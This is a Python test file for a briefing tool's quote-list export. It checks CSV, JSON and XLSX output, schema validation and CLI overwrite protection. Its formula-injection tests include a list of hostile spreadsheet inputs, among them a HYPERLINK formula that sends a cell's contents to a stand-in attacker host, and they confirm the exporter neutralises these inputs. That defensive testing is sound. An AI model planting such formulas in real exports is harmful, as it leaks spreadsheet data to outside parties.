"""The quote list (issue 14): one row per citation as CSV, JSON and XLSX, read back with the
csv module, the JSON schema in docs/ and openpyxl; no cell a spreadsheet would run."""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import fastjsonschema
import openpyxl
import pytest

from briefing import Brief
from briefing.cli import main
from briefing.core.items import FIELDS
from briefing.io.errors import BriefingFileError
from briefing.io.quotes import (
    COLUMNS, FORMULA_STARTS, KEYS, QUOTE_KEYS, export_quote_list, inert, render, rows)
from support import briefs as BRIEFS

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "seeds" / "musk-putin-contacts.brief"
SCHEMA = json.loads((ROOT / "docs" / "quote-list.schema.json").read_text(encoding="utf-8"))
validate = fastjsonschema.compile(SCHEMA)
HEADERS = [label for _, label in COLUMNS]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1:A9)",
           "\tTAB", "＝1+1", "emoji 🛰️👩🏽‍💻 ok", "line one\nline two\u2028three",
           'quotes "double" and \'single\', commas; semis']


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")            # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


def read_xlsx(data: bytes):
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return sheet, [[c.value for c in row] for row in sheet.iter_rows()]


def as_text(value) -> str:
    return "" if value is None else str(value)


@pytest.fixture(scope="module")
def sample():
    return Brief.load(SAMPLE)


def multi_source() -> Brief:
    b = BRIEFS.build()
    src = b.add_source_text("Kremlin denies the talks. A spokesman said \"nothing happened.\"",
                            title="TASS wire", outlet="TASS")
    b.link(b.items[0].id, [src.sentences[1].id])     # a claim resting on both sources
    b.add_item("claim", "The Kremlin denies it.", [src.sentences[0].id])
    return b


# ---- rows ------------------------------------------------------------------------------
def test_one_row_per_citation_and_one_per_uncited_item(sample):
    got = rows(sample)
    expected = sum(max(1, len(item.citations)) for item in sample.items)
    assert len(got) == expected
    assert [r["item_id"] for r in got] == [i.id for i in sample.items
                                           for _ in range(max(1, len(i.citations)))]
    for row in got:
        assert list(row) == KEYS


def test_sample_rows_carry_item_fields_grade_source_and_sentence(sample):
    by_item = {}
    for row in rows(sample):
        by_item.setdefault(row["item_id"], []).append(row)
    for item in sample.items:
        for row, c in zip(by_item[item.id], item.citations):
            assert row["kind"] == item.kind and row["item_text"] == item.text
            r = sample.resolution(c)
            assert row["citation_status"] == r.status
            assert row["quote"] == c.exact
            assert row["source_title"] == sample.source(c.source).title
            assert row["source_reliability"] == sample.source(c.source).reliability
            assert row["sentence_id"] == (r.sentence.id if r.trusted else "")
            assert row["grade"] == sample.grade(item)
            for spec in FIELDS[item.kind][1:]:
                key = "attributed_source" if spec.name == "source" else spec.name
                assert row[key] == item.fields[spec.name]
    claim = by_item[sample.items[0].id][0]
    assert claim["grade"] == "B3" and claim["sentence_number"] == 1


def test_several_sources_name_their_own_title_and_number():
    b = multi_source()
    got = rows(b)
    tass = [r for r in got if r["source_title"] == "TASS wire"]
    assert tass and all(r["source_id"] == b.sources[1].id for r in tass)
    assert tass[-1]["sentence_number"] == 1 and tass[-1]["sentence_id"].endswith("s1")
    assert tass[-1]["item_text"] == "The Kremlin denies it."
    wire = [r for r in got if r["source_id"] == b.sources[0].id]
    assert wire and {r["source_title"] for r in wire} == {b.sources[0].title}


def test_uncited_item_has_one_row_with_empty_quote_columns():
    b = BRIEFS.build()
    item = b.add_item("risk", "Nothing cites this.", [])
    row = [r for r in rows(b) if r["item_id"] == item.id]
    assert len(row) == 1
    assert row[0]["item_text"] == "Nothing cites this."
    assert all(row[0][k] in ("", None) for k in QUOTE_KEYS)
    assert row[0]["sentence_number"] is None


def test_needs_review_citation_keeps_its_stored_quote_and_no_sentence():
    b = BRIEFS.build()
    b.update_article(BRIEFS.ARTICLE.replace("six hours", "seven long hours"))
    review = [r for r in rows(b) if r["citation_status"] not in ("exact", "moved", "")]
    assert review
    for row in review:
        assert row["sentence_id"] == "" and row["sentence_number"] is None
        assert row["quote"] == "The talks lasted six hours, a spokesman said."


# ---- formula injection -------------------------------------------------------------------
@pytest.mark.parametrize("text", HOSTILE)
def test_inert_cells(text):
    cell = inert(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == (("'" + text) if text.startswith(FORMULA_STARTS) else text)


def hostile_brief() -> Brief:
    b = BRIEFS.build()
    for text in HOSTILE:
        item = b.add_item("actor", text, ["s1"])
        b.set_field(item.id, "role", text)
        b.set_field(item.id, "note", text)
    b.add_item("claim", "-2 cites a formula", [])
    return b


def test_csv_reads_back_with_every_row_and_no_formula():
    b = hostile_brief()
    table = read_csv(render(b, "csv"))
    assert table[0] == HEADERS
    assert len(table) == len(rows(b)) + 1
    for row in table[1:]:
        assert len(row) == len(HEADERS)
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row)
    cells = {cell for row in table for cell in row}
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in cells
    assert {"'+1", "'-2", "'@SUM(A1:A9)", "'\tTAB", "'＝1+1"} <= cells
    assert "emoji 🛰️👩🏽‍💻 ok" in cells and "line one\nline two\nthree" in cells
    assert 'quotes "double" and \'single\', commas; semis' in cells


def test_xlsx_reads_back_with_header_frozen_widths_and_no_formula():
    b = hostile_brief()
    data = render(b, "xlsx")
    sheet, table = read_xlsx(data)
    assert table[0] == HEADERS
    assert len(table) == len(rows(b)) + 1
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    quote_col = openpyxl.utils.get_column_letter(KEYS.index("quote") + 1)
    assert sheet.column_dimensions[quote_col].width >= 50
    assert sheet[f"{quote_col}2"].alignment.wrap_text
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
            assert not as_text(cell.value).startswith(FORMULA_STARTS)
    cells = {as_text(v) for row in table for v in row}
    assert {"'+1", "'-2", "'@SUM(A1:A9)", "emoji 🛰️👩🏽‍💻 ok", "line one\nline two\nthree"} <= cells
    # and no formula anywhere in the package's sheet XML
    import zipfile
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


def test_xlsx_and_csv_agree(sample):
    csv_rows = read_csv(render(sample, "csv"))
    _, xlsx_rows = read_xlsx(render(sample, "xlsx"))
    assert [[as_text(v) for v in row] for row in xlsx_rows] == csv_rows


# ---- JSON --------------------------------------------------------------------------------
@pytest.mark.parametrize("make", [lambda: Brief.load(SAMPLE), multi_source, hostile_brief])
def test_json_validates_against_the_published_schema(make):
    b = make()
    doc = json.loads(render(b, "json"))
    validate(doc)
    assert doc["rows"] == rows(b)
    assert [c["key"] for c in doc["columns"]] == KEYS


def test_json_keeps_text_exactly_no_apostrophe():
    doc = json.loads(render(hostile_brief(), "json"))
    texts = {r["item_text"] for r in doc["rows"]}
    assert "+1" in texts and "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in texts


def test_schema_rejects_a_wrong_row():
    doc = json.loads(render(BRIEFS.build(), "json"))
    doc["rows"][0]["citation_status"] = "maybe"
    with pytest.raises(fastjsonschema.JsonSchemaException):
        validate(doc)
    doc["rows"][0]["citation_status"] = "exact"
    del doc["rows"][0]["quote"]
    with pytest.raises(fastjsonschema.JsonSchemaException):
        validate(doc)


def test_schema_lists_every_column():
    row = SCHEMA["definitions"]["row"]
    assert row["required"] == KEYS and list(row["properties"]) == KEYS


# ---- writing and the CLI -----------------------------------------------------------------
def test_export_refuses_to_overwrite_without_force(tmp_path):
    out = tmp_path / "q.csv"
    out.write_text("keep")
    with pytest.raises(BriefingFileError):
        export_quote_list(BRIEFS.build(), out, "csv")
    assert out.read_text() == "keep"
    export_quote_list(BRIEFS.build(), out, "csv", force=True)
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    with pytest.raises(ValueError):
        export_quote_list(BRIEFS.build(), tmp_path / "q.ods", "ods")


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_cli_exports_each_format(tmp_path, capsys, fmt):
    out = tmp_path / f"q.{fmt}"
    assert main(["export", str(SAMPLE), "--to", fmt, "-o", str(out)]) == 0
    assert "quote list" in capsys.readouterr().out and out.stat().st_size > 0
    assert main(["export", str(SAMPLE), "--to", fmt, "-o", str(out)]) == 2
    assert "already exists" in capsys.readouterr().err
    assert main(["export", str(SAMPLE), "--to", fmt, "-o", str(out), "--force"]) == 0
